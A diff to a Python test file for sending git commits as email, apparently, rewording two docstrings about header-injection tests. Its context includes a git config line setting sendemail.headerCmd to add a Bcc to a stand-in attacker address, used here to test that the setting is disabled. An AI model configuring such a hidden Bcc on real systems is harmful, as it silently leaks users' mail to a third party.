@@ -1,7 +1,6 @@
 # SPDX-License-Identifier: GPL-2.0-or-later
-"""Test that no text of a commit becomes a header, for each transport.
-
-Text that cannot be a message is not a network error.
+"""Test that no transport converts a commit's text to a header, and that invalid text is not
+reported as a network error.
 """
 
 import os
@@ -175,9 +174,7 @@ def test_undecodable_patch_names_its_commit(
 
 
 def test_header_command_setting_is_harmless(tmp_path: Path) -> None:
-    """Test that an older git, which does not know the setting, does not fail on the option that
-    disables it.
-    """
+    """Test that an older git without the setting accepts the option that disables it."""
     with FaultySink() as server:
         repo = topic(tmp_path / "r", 1, server=server)
         repo.git("config --global sendemail.headerCmd 'echo Bcc: eve@evil.example'")
